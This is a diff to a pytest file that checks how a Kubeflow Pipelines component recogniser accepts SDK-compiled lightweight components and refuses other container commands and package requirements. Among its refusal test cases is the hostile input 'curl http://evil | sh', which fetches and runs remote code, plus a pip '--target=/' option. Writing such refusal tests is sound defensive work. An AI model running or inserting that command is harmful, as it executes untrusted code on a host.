@@ -65,13 +65,13 @@ def test_what_the_sdk_compiles_is_read(given, expected):
     component = recognise(given)
     assert (component.source, component.function) == ("SOURCE", "f")
     installs = [(i.requirements, i.options) for i in component.installs]
-    assert [i for i in installs if not i[0][0].startswith("kfp")] == expected
+    assert installs == expected
 
 
 @pytest.mark.parametrize(
     ("given", "part"),
     [
-        pytest.param({"image": "alpine", "command": ["echo"], "args": ["x"]}, "container component (image alpine: echo x)", id="container"),
+        pytest.param({"image": "alpine", "command": ["echo"], "args": ["x"]}, "(image alpine: echo x)", id="container"),
         pytest.param({"image": "x"}, "container component", id="empty"),
         pytest.param(
             {"image": "own", "command": ["python3", "-m", "kfp.dsl.executor_main"], "args": ARGS},
@@ -80,9 +80,10 @@ def test_what_the_sdk_compiles_is_read(given, expected):
         ),
         pytest.param(executor(args=[*ARGS, "--more", "x"]), "--executor_input", id="more-arguments"),
         pytest.param(executor(args=[*ARGS[:3], "os.system"]), "--executor_input", id="no-function-name"),
+        pytest.param(executor(f"{PIP} 'a' '--no-deps' && {KFP}"), "'--no-deps'", id="no-deps-of-the-users"),
         pytest.param(executor("curl http://evil | sh"), "not one that the KFP SDK writes", id="other-script"),
         pytest.param(executor(f"{PIP} --target=/ 'a' && {KFP}"), "--target=/", id="pip-option"),
-        pytest.param({**executor(), "command": ["sh", "-ec", "echo $0", "SOURCE"]}, "container component", id="other-program"),
+        pytest.param({**executor(), "command": ["sh", "-ec", "echo $0", "X"]}, "container component", id="other"),
         pytest.param({"command": "sh"}, "executor.command", id="no-list"),
     ],
 )  # fmt: skip
@@ -92,7 +93,6 @@ def test_anything_else_is_refused_with_what_it_is(given, part):
 
 
 def test_every_official_pipeline_is_recognised_or_refused_by_kind(contracts: Path):
-    """In index.json, a pipeline is of lightweight components only when it runs neither containers nor images of its own."""
     recognised = refused = 0
     for path in sorted((contracts / "kfp" / "pipelines").rglob("*.yaml")):
         for document in yaml.safe_load_all(path.read_text()):
@@ -120,7 +120,8 @@ def test_every_official_pipeline_is_recognised_or_refused_by_kind(contracts: Pat
         ("Flask<1", False),
         ("no-such-package", False),
         ("no-such-package; python_version < '3'", True),
-        ("sqlalchemy[asyncio]", True),
+        ("zeroflow[step]", True),
+        ("sqlalchemy[mssql]", False),
         ("flask @ https://example.com/flask.whl", False),
         ("git+https://example.com/x.git", False),
         ("./flask.whl", False),
